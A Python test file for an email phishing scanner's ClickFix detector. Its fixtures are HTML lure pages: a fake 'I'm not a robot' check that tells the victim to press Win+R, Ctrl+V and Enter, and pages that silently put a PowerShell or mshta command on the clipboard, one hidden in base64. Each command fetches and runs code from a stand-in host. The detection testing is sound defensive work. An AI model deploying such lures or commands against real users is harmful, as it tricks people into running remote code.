"""ClickFix: paste-into-the-Run-dialog instructions, and pages that put a command on the
clipboard (our own test pages, built here)."""

from __future__ import annotations

from tests.helpers import finding_ids, make_message, scan_offline

ID = "CONTENT_CLICKFIX"

CAPTCHA_PAGE = """<html><body><h1>Verify you are human</h1>
<p>Document.pdf is protected. Complete the check to open it.</p>
<button onclick="go()">I'm not a robot</button>
<ol><li>Press Windows Key + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>
<script>function go(){var c="powershell -w hidden -c \\"iex (iwr https://x.example/c.ps1)\\"";
navigator.clipboard.writeText(c);}</script></body></html>"""

SILENT_CLIPBOARD_PAGE = """<html><body><p>Loading document...</p>
<script>navigator.clipboard.writeText("mshta https://x.example/a.hta");</script></body></html>"""

COPY_BUTTON_PAGE = """<html><body><p>Your voucher code: SPRING25</p>
<script>function copy(){navigator.clipboard.writeText("SPRING25");}</script></body></html>"""


def _attached(page: str, text: str = "Please find the document attached.") -> set[str]:
    raw = make_message(text=text, attachments=[("Invoice.html", "text/html", page.encode())])
    return finding_ids(scan_offline(raw))


def test_captcha_page_with_clipboard_command_fires() -> None:
    raw = make_message(
        text="See attached.", attachments=[("Invoice.html", "text/html", CAPTCHA_PAGE.encode())]
    )
    result = scan_offline(raw)
    finding = next(f for f in result.findings if f.id == ID)
    assert "clipboard: powershell" in finding.evidence["signs"]
    assert finding.evidence["where"] == ["Invoice.html"]
    assert result.verdict.value == "phishing"


def test_a_clipboard_command_alone_is_enough() -> None:
    assert ID in _attached(SILENT_CLIPBOARD_PAGE)


def test_copying_a_voucher_code_is_not_clickfix() -> None:
    assert ID not in _attached(COPY_BUTTON_PAGE)


def test_instructions_in_the_mail_itself_fire() -> None:
    text = (
        "Your mailbox needs a quick human verification. Press Win+R, then Ctrl+V and Enter "
        "to finish the verification steps."
    )
    assert ID in finding_ids(scan_offline(make_message(text=text)))


def test_german_instructions_fire() -> None:
    text = (
        "Bestätigen Sie, dass Sie kein Roboter sind: Windows-Taste + R drücken, "
        "dann Strg + V und Enter."
    )
    assert ID in finding_ids(scan_offline(make_message(text=text)))


def test_it_instructions_without_a_pretext_do_not_fire() -> None:
    text = (
        "To map the share: copy the path below, press Windows + R, paste it with Ctrl + V "
        "and press Enter. \\\\files01\\projects"
    )
    assert ID not in finding_ids(scan_offline(make_message(text=text)))


ATOB_CLIPBOARD_PAGE = """<html><body><h2>Verification steps</h2>
<p>Press Windows Button + R, press CTRL + V, press Enter.</p>
<script>var _c=atob("bXNodGEgaHR0cHM6Ly94LmV4YW1wbGUvYS5odGE=");
navigator.clipboard.writeText(_c);</script></body></html>"""


def test_a_command_kept_in_base64_for_atob_is_read() -> None:
    raw = make_message(
        text="See attached.", attachments=[("View.html", "text/html", ATOB_CLIPBOARD_PAGE.encode())]
    )
    finding = next(f for f in scan_offline(raw).findings if f.id == ID)
    assert "clipboard: mshta" in finding.evidence["signs"]
    assert "windows button + r" in finding.evidence["signs"]
